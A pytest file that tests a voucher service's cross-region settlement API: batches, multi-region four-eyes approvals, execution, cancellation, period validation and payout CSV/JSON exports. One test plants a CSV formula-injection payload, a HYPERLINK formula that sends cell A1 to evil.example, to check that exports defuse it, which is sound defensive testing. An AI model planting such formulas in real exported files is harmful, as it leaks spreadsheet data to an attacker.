"""Cross-region settlement through the API (DESIGN §2 Settlement, §3, §5): batches of a
paying region's redeemed, unsettled redemptions per period, four-eyes approvals from
every region a batch touches, execution (payable → paid), cancellation, payout files.

Every test that asserts what a batch contains runs on a pristine database
(`fresh_app`), because a batch takes *every* due redemption of its region and period.
Periods are computed from the clock in Asia/Shanghai, never hard-coded.
"""
from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime, time, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest
from helpers import (
    account_balances,
    assert_problem,
    assert_rule,
    current_month,
    ledger_size,
    make_uscc,
    nothing_changes,
    ok,
    redeem,
)
from sqlmodel import Session

from voucher_service.db import get_engine
from voucher_service.models import Account, Redemption

SHANGHAI = ZoneInfo("Asia/Shanghai")
PROBLEM_JSON = "application/problem+json"
UTF8_BOM = b"\xef\xbb\xbf"

KS_ENTERPRISE, SH_ENTERPRISE, WJ_ENTERPRISE = "ent-ks-003", "ent-sh-001", "ent-wj-001"
SH_PROVIDER, KS_PROVIDER, WJ_PROVIDER = "prv-sh-001", "prv-ks-002", "prv-wj-001"
PROVIDER_USCC = {SH_PROVIDER: "12310000425003717M", KS_PROVIDER: "12320583466109358P",
                 WJ_PROVIDER: "12320509467205181G"}
PROVIDER_NAME = {SH_PROVIDER: "上海市计量测试技术研究院", KS_PROVIDER: "昆山市质量技术监督综合检验检测中心",
                 WJ_PROVIDER: "苏州市吴江区检验检测中心"}
ENTERPRISE_REGION = {KS_ENTERPRISE: "KS", SH_ENTERPRISE: "SH", WJ_ENTERPRISE: "WJ"}


# --- periods, from the clock ----------------------------------------------------------

def now_local() -> datetime:
    return datetime.now(SHANGHAI)


def month_label(day: date) -> str:
    return day.strftime("%Y-%m")


def quarter_label(day: date) -> str:
    return f"{day.year}-Q{(day.month - 1) // 3 + 1}"


def current_quarter() -> str:
    return quarter_label(now_local())


def first_of_month(day: date) -> date:
    return day.replace(day=1)


def previous_month() -> str:
    return month_label(first_of_month(now_local().date()) - timedelta(days=1))


def next_month() -> str:
    return month_label(first_of_month(now_local().date()) + timedelta(days=32))


def next_quarter() -> str:
    today = now_local().date()
    first_of_quarter = date(today.year, 3 * ((today.month - 1) // 3) + 1, 1)
    return quarter_label(first_of_quarter + timedelta(days=95))


def local_midnight_utc(day: date) -> datetime:
    return datetime.combine(day, time(0), SHANGHAI).astimezone(timezone.utc)


def rfc3339(moment: datetime) -> str:
    return moment.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


# --- HTTP helpers ---------------------------------------------------------------------


def balance(app, name: str) -> int:
    with app.app_context(), Session(get_engine()) as session:
        account = session.get(Account, name)
        return 0 if account is None else account.balance_fen



def redemption_status(app, redemption_id: str) -> str:
    with app.app_context(), Session(get_engine()) as session:
        return session.get(Redemption, redemption_id).status


def set_redeemed_at(app, redemption_id: str, moment: datetime) -> None:
    """Move a redemption's redeemed_at (this test's own database) to probe period boundaries."""
    with app.app_context(), Session(get_engine()) as session:
        row = session.get(Redemption, redemption_id)
        row.redeemed_at = rfc3339(moment)
        session.add(row)
        session.commit()


def create(finance, period: str, status=201, **headers):
    response = finance.post("/settlements", json={"period": period}, headers=headers or None)
    if status != 201:
        return response
    body = ok(response, 201)
    assert response.headers["Location"].endswith(f"/settlements/{body['id']}")
    return body


def batched_ids(settlement: dict) -> set[str]:
    return {rid for line in settlement["lines"] for rid in line["redemption_ids"]}


def ledger_entries(auditor) -> list[dict]:
    entries, start = [], 0
    while start is not None:
        page = ok(auditor.get(f"/ledger/entries?start={start}&limit=1000"))
        entries += page["items"]
        start = page["next_start"]
    return entries


def settlement_entries(auditor, settlement_id: str) -> list[dict]:
    return [e for e in ledger_entries(auditor)
            if e["kind"].startswith("settlement.") and e["refs"].get("settlement") == settlement_id]


def postings(entry) -> list[tuple[str, str, int]]:
    return sorted((p["source"], p["destination"], p["amount"]) for p in entry["postings"])


# --- 1. the acceptance scenario -------------------------------------------------------

def test_acceptance_ks_voucher_redeemed_in_sh_is_settled_and_paid(fresh_app, fresh_actors):
    app, actors = fresh_app, fresh_actors
    amount = 250_005  # 2,500.05 CNY: the fen must survive the trip to yuan
    rid = redeem(actors, KS_ENTERPRISE, SH_PROVIDER, amount)
    assert balance(app, f"payable:KS:{SH_PROVIDER}") == amount
    paid_before = balance(app, f"paid:{SH_PROVIDER}")

    creator, ks_second, sh_finance = actors.finance("KS"), actors.finance("KS"), actors.finance("SH")
    batch = create(creator, current_month())
    sid = batch["id"]
    assert batch["status"] == "draft" and batch["region"] == "KS" and batch["period"] == current_month()
    assert batch["total_fen"] == amount
    assert [(l["region"], l["provider_id"], l["provider_region"], l["amount_fen"], l["redemption_count"],
             l["redemption_ids"]) for l in batch["lines"]] == [("KS", SH_PROVIDER, "SH", amount, 1, [rid])]
    assert batch["positions"] == [{"from": "KS", "to": "SH", "amount_fen": amount}]
    assert batch["approvals_required"] == ["KS", "SH"] and batch["approvals"] == []

    with nothing_changes(app):
        assert_rule(creator.post(f"/settlements/{sid}/approve"), "four_eyes")
        assert_rule(creator.post(f"/settlements/{sid}/execute"), "approvals_missing")

    after_ks = ok(ks_second.post(f"/settlements/{sid}/approve"))
    assert after_ks["status"] == "draft" and [a["region"] for a in after_ks["approvals"]] == ["KS"]
    with nothing_changes(app):
        assert_rule(creator.post(f"/settlements/{sid}/execute"), "approvals_missing")
    approved = ok(sh_finance.post(f"/settlements/{sid}/approve"))
    assert approved["status"] == "approved" and approved["approved_at"]
    assert sorted(a["region"] for a in approved["approvals"]) == ["KS", "SH"]
    assert creator.get(f"/settlements/{sid}").get_json()["status"] == "approved"

    executed = ok(creator.post(f"/settlements/{sid}/execute"))
    assert executed["status"] == "executed" and executed["executed_at"]

    # the payout file, as CSV: BOM, csv-readable, the SH provider in yuan
    response = sh_finance.get(f"/settlements/{sid}/payouts", headers={"Accept": "text/csv"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    raw = response.get_data()
    assert raw.startswith(UTF8_BOM)
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1
    row = rows[0]
    assert row["provider_id"] == SH_PROVIDER
    assert row["provider_name"] == PROVIDER_NAME[SH_PROVIDER]
    assert row["uscc"] == PROVIDER_USCC[SH_PROVIDER]
    assert row["provider_region"] == "SH"
    assert row["amount_cny"] == "2500.05"
    assert row["redemption_count"] == "1"
    assert row["paying_region"] == "KS" and row["settlement_id"] == sid and row["period"] == current_month()

    # the same file as JSON
    payouts = ok(creator.get(f"/settlements/{sid}/payouts"))
    assert payouts["settlement_id"] == sid and payouts["status"] == "executed" and payouts["total_fen"] == amount
    assert [(p["provider_id"], p["provider_name"], p["uscc"], p["provider_region"], p["paying_region"],
             p["amount_fen"], p["redemption_count"], p["redemption_ids"]) for p in payouts["payouts"]] == [
        (SH_PROVIDER, PROVIDER_NAME[SH_PROVIDER], PROVIDER_USCC[SH_PROVIDER], "SH", "KS", amount, 1, [rid])]

    assert redemption_status(app, rid) == "settled"
    assert ok(actors.sme(KS_ENTERPRISE).get(f"/redemptions/{rid}"))["status"] == "settled"

    # the ledger, read as an auditor
    entries = settlement_entries(actors.auditor(), sid)
    assert [e["kind"] for e in entries] == ["settlement.created", "settlement.approved", "settlement.approved",
                                            "settlement.executed"]
    assert [e["region"] for e in entries] == ["KS", "KS", "SH", "KS"]
    assert all(e["postings"] == [] for e in entries[:3])
    assert postings(entries[-1]) == [(f"payable:KS:{SH_PROVIDER}", f"paid:{SH_PROVIDER}", amount)]
    assert entries[0]["actor"] != entries[1]["actor"] and entries[1]["actor"] != entries[2]["actor"]

    # the balances
    assert balance(app, f"payable:KS:{SH_PROVIDER}") == 0
    assert balance(app, f"paid:{SH_PROVIDER}") - paid_before == amount
    assert sum(account_balances(app).values()) == 0


def test_payout_csv_neutralises_formula_cells(fresh_app, fresh_actors):
    name = '=HYPERLINK("http://evil.example/?x="&A1,"上海检测")'
    provider = ok(fresh_actors.officer("SH").post("/providers", json={
        "name": name, "uscc": make_uscc("310000"), "region": "SH", "categories": ["testing"]}), 201)
    redeem(fresh_actors, KS_ENTERPRISE, provider["id"], 100_000)
    batch = create(fresh_actors.finance("KS"), current_month())
    raw = fresh_actors.finance("SH").get(f"/settlements/{batch['id']}/payouts",
                                         headers={"Accept": "text/csv"}).get_data()
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1
    assert rows[0]["provider_name"][0] not in "=+-@\t\r", rows[0]["provider_name"]
    assert name.lstrip("=") in rows[0]["provider_name"], "the name is kept, only defused"


# --- 2. three regions in one batch ----------------------------------------------------

def test_three_region_batch_needs_every_region_and_pays_every_provider(fresh_app, fresh_actors):
    app, actors = fresh_app, fresh_actors
    amounts = {SH_PROVIDER: 310_000, WJ_PROVIDER: 120_050, KS_PROVIDER: 77_701}
    rids = {provider: redeem(actors, KS_ENTERPRISE, provider, amount) for provider, amount in amounts.items()}
    creator = actors.finance("KS")
    batch = create(creator, current_month())
    sid = batch["id"]
    lines = {l["provider_id"]: l for l in batch["lines"]}
    assert len(batch["lines"]) == 3 and set(lines) == set(amounts)
    for provider, line in lines.items():
        assert (line["amount_fen"], line["redemption_count"], line["redemption_ids"]) == (
            amounts[provider], 1, [rids[provider]])
        assert line["region"] == "KS"
    assert {l["provider_region"] for l in batch["lines"]} == {"KS", "SH", "WJ"}
    assert batch["total_fen"] == sum(amounts.values())
    assert sorted((p["from"], p["to"], p["amount_fen"]) for p in batch["positions"]) == [
        ("KS", "SH", amounts[SH_PROVIDER]), ("KS", "WJ", amounts[WJ_PROVIDER])]
    assert batch["approvals_required"] == ["KS", "SH", "WJ"]

    # every touched region sees it
    for region in ("SH", "WJ"):
        assert ok(actors.finance(region).get(f"/settlements/{sid}"))["id"] == sid
        listed = ok(actors.finance(region).get("/settlements"))["items"]
        assert sid in [s["id"] for s in listed]

    ok(actors.finance("SH").post(f"/settlements/{sid}/approve"))
    second = ok(actors.finance("WJ").post(f"/settlements/{sid}/approve"))
    assert second["status"] == "draft"
    with nothing_changes(app):
        body = assert_rule(creator.post(f"/settlements/{sid}/execute"), "approvals_missing")
        assert "KS" in body["detail"]
    approved = ok(actors.finance("KS").post(f"/settlements/{sid}/approve"))
    assert approved["status"] == "approved"
    assert sorted(a["region"] for a in approved["approvals"]) == ["KS", "SH", "WJ"]
    assert creator.get(f"/settlements/{sid}").get_json()["approvals"][0]["principal_id"] != batch["created_by"]

    # only the paying region executes
    with nothing_changes(app):
        assert_problem(actors.finance("SH").post(f"/settlements/{sid}/execute"), 403)
    executed = ok(creator.post(f"/settlements/{sid}/execute"))
    assert executed["status"] == "executed"
    for rid in rids.values():
        assert redemption_status(app, rid) == "settled"
    for provider, amount in amounts.items():
        assert balance(app, f"payable:KS:{provider}") == 0
        assert balance(app, f"paid:{provider}") == amount
    executed_entry = [e for e in settlement_entries(actors.auditor(), sid) if e["kind"] == "settlement.executed"]
    assert len(executed_entry) == 1
    assert postings(executed_entry[0]) == sorted(
        (f"payable:KS:{p}", f"paid:{p}", a) for p, a in amounts.items())
    assert sum(account_balances(app).values()) == 0

    # the executed batch is final
    with nothing_changes(app):
        assert_rule(creator.post(f"/settlements/{sid}/execute"), "state_machine")
        assert_rule(creator.post(f"/settlements/{sid}/cancel", json={"reason": "too late"}), "state_machine")
        assert_rule(creator.post("/settlements", json={"period": current_month()}), "nothing_to_settle")


# --- 3. four eyes -----------------------------------------------------------------------

@pytest.fixture
def ks_sh_batch(fresh_app, fresh_actors):
    """A draft KS batch of one redemption at an SH provider, and its creator."""
    redeem(fresh_actors, KS_ENTERPRISE, SH_PROVIDER, 100_000)
    creator = fresh_actors.finance("KS")
    return creator, create(creator, current_month())


def test_creator_may_not_approve(fresh_app, ks_sh_batch):
    creator, batch = ks_sh_batch
    with nothing_changes(fresh_app):
        assert_rule(creator.post(f"/settlements/{batch['id']}/approve"), "four_eyes")
    assert creator.get(f"/settlements/{batch['id']}").get_json()["approvals"] == []


def test_one_approval_per_region(fresh_app, fresh_actors, ks_sh_batch):
    _creator, batch = ks_sh_batch
    sid = batch["id"]
    first = fresh_actors.finance("KS")
    ok(first.post(f"/settlements/{sid}/approve"))
    with nothing_changes(fresh_app):
        assert_rule(fresh_actors.finance("KS").post(f"/settlements/{sid}/approve"), "already_approved")
        assert_rule(first.post(f"/settlements/{sid}/approve"), "already_approved")
    sh = fresh_actors.finance("SH")
    assert ok(sh.post(f"/settlements/{sid}/approve"))["status"] == "approved"
    with nothing_changes(fresh_app):  # an approved batch takes no more approvals
        assert_rule(fresh_actors.finance("SH").post(f"/settlements/{sid}/approve"), "state_machine")


def test_auditor_may_read_but_not_approve(fresh_app, fresh_actors, ks_sh_batch):
    _creator, batch = ks_sh_batch
    auditor = fresh_actors.auditor()
    assert ok(auditor.get(f"/settlements/{batch['id']}"))["id"] == batch["id"]
    with nothing_changes(fresh_app):
        assert_problem(auditor.post(f"/settlements/{batch['id']}/approve"), 403)
        assert_problem(auditor.post(f"/settlements/{batch['id']}/execute"), 403)


@pytest.mark.parametrize("region", ["KS", "SH", "WJ"])
def test_programme_officer_may_not_approve(fresh_app, fresh_actors, ks_sh_batch, region):
    """Refused before the batch is even looked up (the access table gives settlements to
    finance officers, auditors and admins only), and nothing changes."""
    _creator, batch = ks_sh_batch
    officer = fresh_actors.officer(region)
    with nothing_changes(fresh_app):
        assert_problem(officer.post(f"/settlements/{batch['id']}/approve"), 403)
        assert_problem(officer.post(f"/settlements/{batch['id']}/execute"), 403)
        assert_problem(officer.post("/settlements", json={"period": current_month()}), 403)
        assert_problem(officer.get("/settlements"), 403)
    assert fresh_actors.finance("KS").get(f"/settlements/{batch['id']}").get_json()["approvals"] == []


@pytest.mark.parametrize("role", ["sme", "provider"])
def test_sme_and_provider_cannot_see_batches(fresh_app, fresh_actors, ks_sh_batch, role):
    _creator, batch = ks_sh_batch
    client = (fresh_actors.sme(KS_ENTERPRISE) if role == "sme" else fresh_actors.provider(SH_PROVIDER))
    with nothing_changes(fresh_app):
        assert client.post(f"/settlements/{batch['id']}/approve").status_code in (403, 404)
        assert client.get(f"/settlements/{batch['id']}").status_code in (403, 404)


def test_finance_of_an_untouched_region_cannot_see_it(fresh_app, fresh_actors, ks_sh_batch):
    _creator, batch = ks_sh_batch
    sid = batch["id"]
    wj = fresh_actors.finance("WJ")
    with nothing_changes(fresh_app):
        assert_problem(wj.post(f"/settlements/{sid}/approve"), 404)
        assert_problem(wj.get(f"/settlements/{sid}"), 404)
        assert_problem(wj.get(f"/settlements/{sid}/payouts"), 404)
        assert_problem(wj.post(f"/settlements/{sid}/execute"), 404)
        assert_problem(wj.post(f"/settlements/{sid}/cancel", json={"reason": "not mine"}), 404)
    assert sid not in [s["id"] for s in ok(wj.get("/settlements"))["items"]]
    assert_problem(wj.get("/settlements/stl_does_not_exist"), 404)


def test_provider_region_may_not_execute_or_cancel(fresh_app, fresh_actors, ks_sh_batch):
    _creator, batch = ks_sh_batch
    sh = fresh_actors.finance("SH")
    with nothing_changes(fresh_app):
        assert_problem(sh.post(f"/settlements/{batch['id']}/cancel", json={"reason": "no"}), 403)


# --- 4. one live batch per redemption -------------------------------------------------

def test_a_redemption_is_in_one_live_batch_and_settled_once(fresh_app, fresh_actors):
    app, actors = fresh_app, fresh_actors
    ks = actors.finance("KS")
    period = current_month()
    r1 = redeem(actors, KS_ENTERPRISE, SH_PROVIDER, 100_000)
    batch_a = create(ks, period)
    assert batched_ids(batch_a) == {r1}

    r2 = redeem(actors, KS_ENTERPRISE, SH_PROVIDER, 200_000)
    batch_b = create(ks, period)
    assert batched_ids(batch_b) == {r2} and batch_b["total_fen"] == 200_000

    with nothing_changes(app):
        assert_rule(create(ks, period, status=409), "nothing_to_settle")

    cancelled = ok(ks.post(f"/settlements/{batch_a['id']}/cancel", json={"reason": "wrong bank file"}))
    assert cancelled["status"] == "cancelled" and cancelled["reason"] == "wrong bank file"
    assert redemption_status(app, r1) == "redeemed"
    kinds = [e["kind"] for e in settlement_entries(actors.auditor(), batch_a["id"])]
    assert kinds == ["settlement.created", "settlement.cancelled"]
    with nothing_changes(app):  # a cancelled batch is final
        assert_rule(actors.finance("KS").post(f"/settlements/{batch_a['id']}/approve"), "state_machine")
        assert_rule(ks.post(f"/settlements/{batch_a['id']}/execute"), "state_machine")
        assert_rule(ks.post(f"/settlements/{batch_a['id']}/cancel", json={"reason": "again"}), "state_machine")

    batch_c = create(ks, period)
    assert batched_ids(batch_c) == {r1}
    ok(actors.finance("KS").post(f"/settlements/{batch_c['id']}/approve"))
    ok(actors.finance("SH").post(f"/settlements/{batch_c['id']}/approve"))
    ok(ks.post(f"/settlements/{batch_c['id']}/execute"))
    assert redemption_status(app, r1) == "settled"
    assert balance(app, f"payable:KS:{SH_PROVIDER}") == 200_000  # r2 is still owed

    with nothing_changes(app):  # r1 settled, r2 still in live batch B
        assert_rule(create(ks, period, status=409), "nothing_to_settle")
    ok(ks.post(f"/settlements/{batch_b['id']}/cancel", json={"reason": "redo"}))
    batch_d = create(ks, period)
    assert batched_ids(batch_d) == {r2}, "a settled redemption is never batched again"

    # the cancelled batch A still records what it took, for the audit trail
    assert batched_ids(ok(ks.get(f"/settlements/{batch_a['id']}"))) == {r1}


def test_cancel_needs_a_reason(fresh_app, ks_sh_batch):
    creator, batch = ks_sh_batch
    with nothing_changes(fresh_app):
        body = assert_problem(creator.post(f"/settlements/{batch['id']}/cancel", json={}), 422)
        assert "reason" in json.dumps(body.get("errors", {}))


def test_create_is_idempotent(fresh_app, fresh_actors):
    redeem(fresh_actors, KS_ENTERPRISE, SH_PROVIDER, 100_000)
    ks = fresh_actors.finance("KS")
    first = ks.post("/settlements", json={"period": current_month()}, headers={"Idempotency-Key": "stl-1"})
    assert first.status_code == 201, first.get_json()
    size = ledger_size(fresh_app)
    again = ks.post("/settlements", json={"period": current_month()}, headers={"Idempotency-Key": "stl-1"})
    assert again.status_code == 201 and again.get_json()["id"] == first.get_json()["id"]
    assert ledger_size(fresh_app) == size


# --- 5. payout cycle and period validation --------------------------------------------

def test_payout_cycle_is_the_regions(app, actors):
    with nothing_changes(app):
        assert_rule(create(actors.finance("SH"), current_month(), status=409), "payout_cycle")
        assert_rule(create(actors.finance("KS"), current_quarter(), status=409), "payout_cycle")
        assert_rule(create(actors.finance("WJ"), current_quarter(), status=409), "payout_cycle")


def test_future_period_has_not_started(app, actors):
    with nothing_changes(app):
        assert_rule(create(actors.finance("KS"), next_month(), status=409), "period_started")
        assert_rule(create(actors.finance("WJ"), next_month(), status=409), "period_started")
        assert_rule(create(actors.finance("SH"), next_quarter(), status=409), "period_started")


def test_quarterly_region_settles_its_quarter(fresh_app, fresh_actors):
    sh_ent_rid = redeem(fresh_actors, SH_ENTERPRISE, KS_PROVIDER, 90_000)
    sh = fresh_actors.finance("SH")
    batch = create(sh, current_quarter())
    assert batch["period"] == current_quarter() and batched_ids(batch) == {sh_ent_rid}
    assert batch["positions"] == [{"from": "SH", "to": "KS", "amount_fen": 90_000}]
    assert batch["approvals_required"] == ["KS", "SH"]


@pytest.mark.parametrize("period", ["2026-13", "2026-Q5", "26-01", "2026-00", "2026-Q0", "2026-1", "2026/01",
                                    "2026-q1", "", " 2026-01", "2026-01-01", "2026-M1"])
def test_malformed_period_is_422(app, actors, period):
    with nothing_changes(app):
        body = assert_problem(actors.finance("KS").post("/settlements", json={"period": period}), 422)
        assert "period" in json.dumps(body.get("errors", {}))


@pytest.mark.parametrize("body", [{}, {"period": None}, {"period": 202601}, {"period": ["2026-01"]}])
def test_missing_or_mistyped_period_is_422(app, actors, body):
    with nothing_changes(app):
        assert_problem(actors.finance("KS").post("/settlements", json=body), 422)


def test_period_with_trailing_newline_is_422(fresh_app, fresh_actors):
    redeem(fresh_actors, KS_ENTERPRISE, SH_PROVIDER, 100_000)
    with nothing_changes(fresh_app):
        assert_problem(fresh_actors.finance("KS").post("/settlements", json={"period": current_month() + "\n"}),
                       422)


@pytest.mark.parametrize("translate", [str.maketrans("0123456789", "０１２３４５６７８９"),
                                       str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")])
def test_period_in_non_ascii_digits_is_422(fresh_app, fresh_actors, translate):
    redeem(fresh_actors, KS_ENTERPRISE, SH_PROVIDER, 100_000)
    year, month = current_month().split("-")
    with nothing_changes(fresh_app):
        assert_problem(fresh_actors.finance("KS").post(
            "/settlements", json={"period": f"{year.translate(translate)}-{month}"}), 422)


@pytest.mark.parametrize("period", ["0000-01", "9999-12", "9999-Q4"])
def test_out_of_range_year_is_not_a_5xx(app, actors, period):
    response = actors.finance("KS" if "Q" not in period else "SH").post("/settlements", json={"period": period})
    assert response.status_code < 500, response.get_data(as_text=True)
    assert response.status_code in (409, 422)


def test_only_finance_creates(app, actors):
    with nothing_changes(app):
        for client in (actors.officer("KS"), actors.auditor(), actors.sme(KS_ENTERPRISE),
                       actors.provider(SH_PROVIDER)):
            assert_problem(client.post("/settlements", json={"period": current_month()}), 403)
        assert_problem(actors.anonymous().post("/settlements", json={"period": current_month()}), 401)


# --- 6. period boundaries ---------------------------------------------------------------

def test_this_months_redemption_is_not_in_last_months_batch(fresh_app, fresh_actors):
    rid = redeem(fresh_actors, KS_ENTERPRISE, SH_PROVIDER, 100_000)
    ks = fresh_actors.finance("KS")
    with nothing_changes(fresh_app):
        assert_rule(create(ks, previous_month(), status=409), "nothing_to_settle")
    assert batched_ids(create(ks, current_month())) == {rid}


def test_month_boundaries_are_shanghai_midnights(fresh_app, fresh_actors):
    """A redemption one microsecond before local midnight on the 1st belongs to the previous
    month, one at that midnight to the current month (UTC would put both in the same month)."""
    app, actors = fresh_app, fresh_actors
    this_month_starts = local_midnight_utc(first_of_month(now_local().date()))
    late = redeem(actors, KS_ENTERPRISE, SH_PROVIDER, 100_000)
    on_time = redeem(actors, KS_ENTERPRISE, WJ_PROVIDER, 50_000)
    set_redeemed_at(app, late, this_month_starts - timedelta(microseconds=1))
    set_redeemed_at(app, on_time, this_month_starts)
    ks = actors.finance("KS")
    previous = create(ks, previous_month())
    assert previous["period"] == previous_month() and batched_ids(previous) == {late}
    start = datetime.fromisoformat(previous["period_start"].replace("Z", "+00:00"))
    end = datetime.fromisoformat(previous["period_end"].replace("Z", "+00:00"))
    assert end == this_month_starts and start.astimezone(SHANGHAI).time() == time(0)
    assert start.astimezone(SHANGHAI).day == 1
    current = create(ks, current_month())
    assert batched_ids(current) == {on_time}


def test_quarter_boundaries_are_shanghai_midnights(fresh_app, fresh_actors):
    app, actors = fresh_app, fresh_actors
    today = now_local().date()
    quarter_starts_local = date(today.year, 3 * ((today.month - 1) // 3) + 1, 1)
    quarter_starts = local_midnight_utc(quarter_starts_local)
    before = redeem(actors, SH_ENTERPRISE, KS_PROVIDER, 40_000)
    at = redeem(actors, SH_ENTERPRISE, KS_PROVIDER, 60_000)
    set_redeemed_at(app, before, quarter_starts - timedelta(microseconds=1))
    set_redeemed_at(app, at, quarter_starts)
    sh = actors.finance("SH")
    previous_quarter = quarter_label(quarter_starts_local - timedelta(days=1))
    assert batched_ids(create(sh, previous_quarter)) == {before}
    assert batched_ids(create(sh, current_quarter())) == {at}
